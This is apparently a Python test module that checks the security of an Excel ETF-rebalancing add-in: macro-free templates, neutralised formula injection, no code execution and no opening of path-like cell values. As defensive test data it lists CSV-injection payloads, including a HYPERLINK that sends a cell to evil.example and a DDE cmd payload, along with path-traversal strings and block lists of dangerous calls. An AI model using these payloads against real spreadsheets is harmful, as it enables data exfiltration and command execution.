"""Security: macro-free templates, no cell text run as a formula or code, cell values are not paths.

The add-in's own VBA is checked elsewhere: ``tests/excel/test_build.py::
test_vba_project_is_byte_identical_to_the_template`` proves the ``.xlam``'s
``vbaProject.bin`` is xlwings 0.37.8's, byte for byte.
"""

from __future__ import annotations

import ast
import builtins
import datetime as dt
import io
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlwings as xw

from etf_rebalancer import udfs
from etf_rebalancer.errors import InputError
from etf_rebalancer.excel import refresh as rf
from etf_rebalancer.planning.inputs import read_request
from etf_rebalancer.quotes.service import get_service, history_rows
from etf_rebalancer.workbook import layout
from etf_rebalancer.workbook.quotes_sheet import replace_quotes
from tests.excel.conftest import remote_engine  # noqa: F401  (fixture)
from tests.excel.test_refresh import HOLDINGS, SETTINGS, TARGETS, MemoryQuotes, payload, sheet
from tests.quotes.replay import replay_session

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "addin" / "etf_rebalancer"
# The desktop templates and their Lite editions (workbook_templates/lite/).
TEMPLATES = sorted((ROOT / "workbook_templates").rglob("*.xlsx"))

# Text that Excel would run if it were written as a formula (CSV/formula injection).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=WEBSERVICE("http://evil.example")',
    "\t=1+1",
]


# ---------------------------------------------------------------- templates


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.name)
def test_templates_are_macro_free_xlsx(path):
    assert path.suffix == ".xlsx"
    package = zipfile.ZipFile(path)
    names = package.namelist()
    assert not [n for n in names if n.lower().endswith((".bin", ".vba")) or "vba" in n.lower()]
    assert not [n for n in names if re.search(r"activeX|embeddings|externalLink|oleObject", n)]
    types = package.read("[Content_Types].xml").decode()
    assert "macroEnabled" not in types and "vbaProject" not in types
    assert "spreadsheetml.sheet.main+xml" in types  # a plain workbook, not .xlsm/.xltm
    workbook = package.read("xl/workbook.xml").decode()
    assert not re.search(r"auto_open|auto_close|workbook_open", workbook, re.I)
    for name in names:
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            formulas = re.findall(r"<f\b[^>]*>(.*?)</f>", package.read(name).decode(), re.S)
            for formula in formulas:
                # Formulas call worksheet and our UDFs only: nothing that reaches out.
                assert not re.search(r"WEBSERVICE|FILTERXML|CALL\(|REGISTER|EXEC|\|", formula), (
                    name,
                    formula,
                )
        if name.endswith(".rels"):
            rels = package.read(name).decode()
            assert 'TargetMode="External"' not in rels, name


# ---------------------------------------------------------------- text is never a formula


def _quotes_sheet_xml(data: bytes) -> str:
    package = zipfile.ZipFile(io.BytesIO(data))
    from etf_rebalancer.workbook.quotes_sheet import find_quotes_parts

    parts = {n: package.read(n) for n in package.namelist()}
    sheet_path, _, _ = find_quotes_parts(parts)
    return parts[sheet_path].decode()


def test_cli_quotes_sheet_writes_hostile_text_as_text():
    """``etf-rebal refresh`` writes the Quotes sheet's XML itself: text is an inline string."""
    data = (ROOT / "workbook_templates" / "tech-core_en.xlsx").read_bytes()
    rows = [[text, None, "USD", None, text, text] for text in HOSTILE]
    out = replace_quotes(data, rows, dt.datetime(2026, 1, 2, 3, 4, 5))
    xml = _quotes_sheet_xml(out)
    assert "<f>" not in xml and "<f " not in xml
    book = openpyxl.load_workbook(io.BytesIO(out))
    quotes = book[layout.find_sheet(book.sheetnames, "quotes")]
    for index, text in enumerate(HOSTILE, start=2):
        for column in (1, 5, 6):
            cell = quotes.cell(index, column)
            assert cell.data_type == "s" and cell.value == text, (cell.coordinate, cell.value)


def test_as_text_prefixes_what_excel_would_take_for_a_formula():
    for text in HOSTILE:
        assert rf.as_text(text) == "'" + text
    for value in ("QQQ", "fresh", "error: QQQ: HTTP 429", "", 1.5, -2.0, None, True):
        assert rf.as_text(value) == value


def test_refresh_macro_never_writes_a_formula(remote_engine):  # noqa: F811
    """The Refresh button writes through xlwings ``Range.value``: hostile text gets a prefix."""
    quotes = MemoryQuotes(
        {"QQQ": (480.25, "USD"), "069500": (35_000.0, "KRW"), "VWCE.DE": (120.5, "EUR")},
        {("USD", "KRW"): 1450.0, ("EUR", "KRW"): 1580.0},
    )
    status = iter(HOSTILE * 3)

    def hostile_quote(ticker):  # statuses and sources as Yahoo or an error text might send
        price, currency = quotes.prices.get(ticker, (None, None))
        return price, currency, None, next(status), next(status)

    quotes.quote = hostile_quote
    holdings = [*HOLDINGS, ["=1+1", 1, 10.0, "USD", "ISA"], ["@EVIL", 1, 10.0, "USD", "ISA"]]
    book = xw.Book(
        json=payload(
            sheet("Holdings", holdings), sheet("Targets", TARGETS), sheet("Settings", SETTINGS)
        )
    )

    def planner(sheets, source, as_of):  # the plan as values (macOS) carries tickers from cells
        orders = [["Ticker", "Action"], ["=1+1", "BUY"], ["@EVIL", "SELL"]]
        return orders, [["Ticker", "Status"], ["-2+3", "OK"]]

    ok = rf.refresh(
        book, quotes=quotes, now=lambda: dt.datetime(2026, 1, 2), values_only=True, planner=planner
    )
    assert ok, [a["args"] for a in book.json()["actions"] if a["func"] == "alert"]
    written = [
        value
        for action in book.json()["actions"]
        if action["func"] == "setValues"
        for row in action["values"]
        for value in row
        if isinstance(value, str)
    ]
    assert written
    starts = tuple("=+-@\t\r")
    assert not [v for v in written if v.startswith(starts)], written
    assert {"'=1+1", "'@EVIL", "'-2+3"} <= set(written)
    assert {"'" + text for text in HOSTILE[:2]} <= set(written)


# ---------------------------------------------------------------- no code from cells


FORBIDDEN_CALLS = {
    "eval",
    "exec",
    "compile",
    "__import__",
    "os.system",
    "os.popen",
    "os.startfile",
    "os.execv",
    "os.spawnv",
    "subprocess.run",
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "pickle.load",
    "pickle.loads",
    "marshal.loads",
    "shelve.open",
    "yaml.load",
    "importlib.import_module",
}
FORBIDDEN_MODULES = {"subprocess", "pickle", "marshal", "shelve", "ctypes"}
# Modules that touch files, and why; a new one needs a look (and a line here).
FILE_IO = {
    "cli.py": "paths given on its command line",
    "excel/install.py": "the add-in and myaddin.conf in fixed per-user folders",
    "quotes/cache.py": "the SQLite cache in ETF_REBAL_CACHE_DIR / the user cache folder",
    "quotes/memory.py": "a CSV of quotes passed by code (tests, bench), never from a cell",
    "workbook/portfolios.py": "the package's own stored price history (importlib.resources)",
    "lite/commands.py": "the files given to `lite extract` and `templates build`",
    "engine/milp.py": "os.devnull only: mutes HiGHS's banner on a process's first solver",
    "lite/bundle.py": "the package's own source files, read when a Lite edition is built",
}
FILE_CALLS = {
    "open",
    "read_bytes",
    "write_bytes",
    "read_text",
    "write_text",
    "connect",
    "replace",
    "copy2",
    "copyfile",
    "unlink",
    "rmtree",
    "mkstemp",
    "fdopen",
}


def _calls(tree: ast.AST) -> list[tuple[str, int]]:
    out = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name):
                out.append((func.id, node.lineno))
            elif isinstance(func, ast.Attribute):
                base = func.value.id if isinstance(func.value, ast.Name) else "?"
                out.append((f"{base}.{func.attr}", node.lineno))
    return out


def test_no_module_can_run_code_or_commands():
    found = []
    for path in PACKAGE.rglob("*.py"):
        tree = ast.parse(path.read_text(), str(path))
        for name, line in _calls(tree):
            if name in FORBIDDEN_CALLS:
                found.append(f"{path.relative_to(PACKAGE)}:{line} {name}")
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom):
                modules = (
                    [a.name for a in node.names]
                    if isinstance(node, ast.Import)
                    else [node.module or ""]
                )
                for module in modules:
                    if module.split(".")[0] in FORBIDDEN_MODULES:
                        found.append(f"{path.relative_to(PACKAGE)}:{node.lineno} import {module}")
    assert not found, found


def test_only_the_known_modules_touch_files():
    touching = {}
    for path in PACKAGE.rglob("*.py"):
        calls = _calls(ast.parse(path.read_text()))
        hits = [f"{n}:{line}" for n, line in calls if n.rsplit(".", 1)[-1] in FILE_CALLS]
        # str.replace and dataclasses.replace are not file I/O; os.replace is.
        hits = [h for h in hits if not h.split(":")[0].endswith("replace") or "os." in h]
        if hits:
            touching[path.relative_to(PACKAGE).as_posix()] = hits
    assert set(touching) <= set(FILE_IO), {k: v for k, v in touching.items() if k not in FILE_IO}
    source = (PACKAGE / "udfs.py").read_text()
    assert not re.search(r"\bopen\(|Path\(|read_bytes|write_bytes", source)


PATHLIKE = [
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\System32\\cmd.exe",
    "\\\\server\\share\\book.xlsx",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
]


@pytest.mark.parametrize("value", PATHLIKE)
def test_cells_with_paths_are_never_opened(value, monkeypatch):
    """Every UDF given path-like text answers without opening anything."""
    monkeypatch.setenv("ETF_REBAL_OFFLINE", "1")
    get_service()  # the cache file is opened before we start watching
    opened: list = []
    real_open = builtins.open

    def watch(file, *args, **kwargs):
        opened.append(file)
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", watch)
    monkeypatch.setattr(io, "open", watch)
    monkeypatch.setattr(os, "open", lambda *a, **k: opened.append(a[0]) or -1)
    holdings = [["Ticker", "Shares", "Price", "Currency"], [value, 1.0, 10.0, "USD"]]
    targets = [["Ticker", "Target"], [value, 100.0]]
    settings = [["base_currency", value], [value, value]]
    prices = [["Date", value], [dt.datetime(2025, 1, 2), 1.0], [dt.datetime(2025, 1, 3), 1.1]]
    answers = [
        udfs.ETF_PRICE(value),
        udfs.ETF_PRICE("QQQ", value),
        udfs.ETF_FX(value, "USD"),
        udfs.ETF_HISTORY(value, "2025-01-01"),
        udfs.ETF_HISTORY("QQQ", value),
        udfs.REBAL_ORDERS(holdings, targets, 0.0, settings),
        udfs.REBAL_SUMMARY(holdings, targets, [["Currency", "Amount"], [value, 1.0]]),
        udfs.REBAL_DRIFT(holdings, targets, 0.0, [["mode", value]]),
        udfs.PORTFOLIO_BACKTEST(prices, [["Ticker", "Weight"], [value, 1.0]], [[value, value]]),
        udfs.PORTFOLIO_EQUITY(prices, [["Ticker", "Weight"], [value, 1.0]]),
        udfs.PORTFOLIO_CORREL(prices),
    ]
    monkeypatch.undo()
    assert not [p for p in opened if value.strip("~/") in str(p)], opened
    assert all(a is not None for a in answers)


@pytest.mark.parametrize("key", ["base_currency", "mode", "band_type", "whole_shares", "fee_rate"])
def test_a_path_in_a_setting_is_an_unknown_value(key):
    holdings = [["Ticker", "Shares", "Price", "Currency"], ["QQQ", 1.0, 10.0, "USD"]]
    targets = [["Ticker", "Target"], ["QQQ", 100.0]]
    with pytest.raises(InputError, match=key):
        read_request(holdings, targets, 0.0, [[key, "../../etc/passwd"]])


@pytest.mark.parametrize("key", ["cache_dir", "quotes_file", "workbook", "../../etc/passwd"])
def test_no_setting_names_a_file(key):
    holdings = [["Ticker", "Shares", "Price", "Currency"], ["QQQ", 1.0, 10.0, "USD"]]
    targets = [["Ticker", "Target"], ["QQQ", 100.0]]
    with pytest.raises(InputError, match="nknown"):
        read_request(holdings, targets, 0.0, [[key, "/tmp/x"]])


def test_a_ticker_cannot_steer_the_quote_url(tmp_path):
    """A ticker goes into Yahoo's chart URL quoted: ``../`` cannot reach another endpoint."""
    from etf_rebalancer.quotes.cache import QuoteCache
    from etf_rebalancer.quotes.service import QuoteService
    from etf_rebalancer.quotes.yahoo import YahooProvider

    session, adapter = replay_session()
    service = QuoteService(
        QuoteCache(tmp_path / "q.sqlite"), YahooProvider(session, cache_dir=tmp_path)
    )
    ticker = "../../../v1/test/getcrumb?x="
    answer = udfs._table("en", lambda: history_rows(service, ticker, "2025-11-10", "2025-11-14"))
    assert answer[0][0].startswith("Error: ")
    charts = [url for url in adapter.log if "/chart/" in url]
    assert charts and all("/V8/FINANCE/CHART/..%2F..%2F..%2FV1" in url.upper() for url in charts), (
        charts
    )
